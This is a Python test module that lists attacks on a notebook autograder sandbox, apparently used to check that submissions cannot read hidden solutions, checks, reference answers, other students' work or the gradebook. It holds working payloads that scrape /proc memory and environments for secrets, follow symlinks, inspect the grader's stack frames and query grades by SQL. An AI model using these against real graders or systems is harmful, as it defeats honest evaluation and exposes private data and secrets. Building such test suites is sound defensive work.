"""Attacks that try to read what is hidden: checks, references, solutions, others' work."""

from tests.attacks.common import BROKEN, Attack, called, coded

SEARCH = """
import re
def search(pid):
    first, second = b"a standard normal prior slip", b"trepxe driht a sa ni dep"[::-1]
    patterns, left = [(first, second), (b"sqlite:///" + b"/", b"")], 3 << 28
    try:
        maps, memory = open(f"/proc/{pid}/maps").readlines(), open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        return
    for line in maps:
        start, end = (int(n, 16) for n in line.split()[0].split("-"))
        if " rw" not in line or left < 0:
            continue
        try:
            memory.seek(start)
            block = memory.read(min(end - start, left))
        except (OSError, ValueError, OverflowError):
            continue
        left -= len(block)
        for needle, after in patterns[: 1 if pid == "self" else 2]:
            at = block.find(needle)
            while at >= 0:
                if block.startswith(after, at + len(needle)) and block[at + len(needle) :][:1].isascii():
                    return learned(block[at : at + 60].decode("ascii", "replace"))
                at = block.find(needle, at + 1)
"""


def reads(about: str, path: str) -> Attack:
    """Return an attack that reads the first file that matches a pattern below the course."""
    code = f"""
    import glob
    for path in sorted(glob.glob(COURSE + "/" + f{path!r}, recursive=True)):
        learned(open(path, "rb").read(500).decode("utf-8", "replace"))
        break
    """
    return coded("learn", about, code)


LEARN: dict[str, Attack] = {
    "read_solutions": reads("the solved notebook", "solutions/*/2*.ipynb"),
    "read_checks": reads("the checks", "autograder/multiview_vae/product_of_experts.py"),
    "read_golden": reads("the stored references", "autograder/multiview_vae/references/golden.json"),
    "read_test_answers": reads("right answers among the tests", "tests/answers/*.py"),
    "read_config": reads("the grader's configuration", "nbgrader_config.py"),
    "read_other_submission": reads("another student's submission", "submitted/{BYSTANDER}/*/2*.ipynb"),
    "read_other_grade": reads("another student's graded notebook", "autograded/{BYSTANDER}/*/2*.ipynb"),
    "read_home": reads("the grader's home", "canary/secret"),
    "read_above": coded(
        "learn",
        "the course, by going up from the working folder",
        """
        import pathlib
        for folder in pathlib.Path.cwd().parents:
            for path in [*folder.glob("solutions/*/2*.ipynb"), *folder.glob("gradebook.db")]:
                learned(path.read_bytes()[:500].decode("utf-8", "replace"))
        """,
    ),
    "read_installed_checks": coded(
        "learn",
        "the checks, wherever the package is installed",
        """
        import autograder, pathlib
        learned((pathlib.Path(autograder.__file__).parent / "multiview_vae/product_of_experts.py").read_text())
        """,
    ),
    "import_checks": coded(
        "learn",
        "the source of the checks, through inspect",
        """
        import importlib, inspect
        learned(inspect.getsource(importlib.import_module("autograder.multiview_vae.product_of_experts")))
        """,
    ),
    "import_golden": coded(
        "learn",
        "the stored references, through the package",
        "from autograder.multiview_vae import references\nlearned(references.golden())",
    ),
    "read_gradebook": coded(
        "learn",
        "everybody's grades, by SQL",
        """
        import sqlite3
        db = sqlite3.connect(f"file:{COURSE}/gradebook.db?mode=ro", uri=True)
        for row in db.execute("SELECT student_id, id FROM submitted_assignment WHERE student_id != ?", (STUDENT,)):
            learned(row)
        """,
    ),
    "read_linked_file": coded(
        "learn",
        "a file of the submission is a link to the gradebook",
        'learned(open("data.txt", "rb").read(60))',
        place=lambda folder, course: (folder / "data.txt").symlink_to(course / "gradebook.db"),
        status=("wrong", "tampered"),
    ),
    "read_linked_folder": coded(
        "learn",
        "a folder of the submission is a link to the solutions",
        'import glob\nlearned(open(sorted(glob.glob("data/*/2*.ipynb"))[0]).read(60))',
        place=lambda folder, course: (folder / "data").symlink_to(course / "solutions"),
        status=("wrong", "tampered"),
    ),
    "frames": called(
        "learn",
        "expected values in the frames that call the answer",
        """
        frame = sys._getframe()
        while frame := frame.f_back:
            for name in ("right_mu", "right_logvar", "wanted", "expected", "experts"):
                if name in frame.f_locals:
                    learned(f"{name} = {frame.f_locals[name]}")
        """,
    ),
    "inspect_stack": called(
        "learn",
        "the lines of the checks that call the answer, through inspect.stack()",
        """
        import inspect
        for frame in inspect.stack():
            if "checks" in frame.filename:
                learned(f"{frame.filename}:{frame.lineno} {frame.code_context}")
        """,
    ),
    "gc_objects": called(
        "learn",
        "stored references among all objects, through gc",
        """
        import gc
        for found in gc.get_objects():
            if type(found) is dict and "joint" in found and "experts" in found:
                learned(found)
                break
        """,
    ),
    "traced": coded(
        "learn",
        "a profiler notes what the grader's functions are given",
        """
        import threading
        def note(frame, event, argument):
            if "expected" in frame.f_locals and "got" in frame.f_locals:
                learned(f"{frame.f_code.co_name} {frame.f_locals['expected']}")
        sys.setprofile(note)
        threading.setprofile(note)
        lazy = product_of_experts
        def product_of_experts(*a):
            sys.setprofile(note)
            return lazy(*a)
        """,
        status=BROKEN,
    ),
    "own_memory": coded(
        "learn",
        "the checks, in /proc/self/mem while they call the answer",
        SEARCH
        + """
lazy, calls = product_of_experts, []
def product_of_experts(*a):
    if not calls:
        calls.append(1)
        search("self")
    return lazy(*a)
""",
        status=BROKEN,
    ),
    "parent_memory": coded(
        "learn",
        "what the grader holds, in /proc/PPID/mem",
        SEARCH + "import os\nif not SAID:\n    search(os.getppid())\n",
        status=BROKEN,
    ),
    "all_memory": coded(
        "learn",
        "what any process holds, in /proc/*/mem",
        SEARCH
        + """
import glob, os
for path in glob.glob("/proc/[0-9]*"):
    if not SAID and path != f"/proc/{os.getpid()}":
        search(path.removeprefix("/proc/"))
""",
        status=BROKEN,
    ),
    "environment": coded(
        "learn",
        "secrets in the environment of any process",
        """
        import glob, os, re
        learned(os.environ[SECRET]) if SECRET in os.environ else None
        for path in glob.glob("/proc/*/environ"):
            try:
                found = re.search(SECRET + "=[^\\0]*", open(path).read())
            except OSError:
                continue
            learned(found[0]) if found else None
        """,
    ),
    "open_files": coded(
        "learn",
        "files that the grader holds open, through /proc/*/fd and /proc/*/root",
        """
        import glob, os
        for path in [*glob.glob("/proc/*/fd/*"), *glob.glob("/proc/*/root" + COURSE + "/gradebook.db")]:
            try:
                if "gradebook.db" in os.readlink(path) + path or "ipynb" in os.readlink(path):
                    learned(open(path, "rb").read(60))
            except OSError:
                if path.endswith("gradebook.db") and os.path.exists(path):
                    learned(open(path, "rb").read(60))
        """,
    ),
    "command_lines": coded(
        "learn",
        "names of other students, from the command lines of processes",
        """
        import glob
        for path in glob.glob("/proc/[0-9]*/cmdline"):
            try:
                line = open(path).read().replace("\\0", " ")
            except OSError:
                continue
            if "nbgrader" in line:
                learned(line)
        """,
    ),
    "ask_shell": coded(
        "learn",
        "the solutions, through a shell command",
        """
        import subprocess
        done = subprocess.run(["cat", *__import__("glob").glob(COURSE + "/solutions/*/2*")], capture_output=True)
        learned(done.stdout[:500].decode()) if done.stdout else None
        """,
    ),
    "ask_git": coded(
        "learn",
        "the solutions, from git's history of the installed package",
        """
        import autograder, pathlib, subprocess
        folder = pathlib.Path(autograder.__file__).parent.parent
        shown = subprocess.run(["git", "-C", folder, "-c", "safe.directory=*", "show", "HEAD:solutions/execute.py"],
                               capture_output=True, text=True).stdout
        learned(shown) if shown else None
        """,
    ),
}
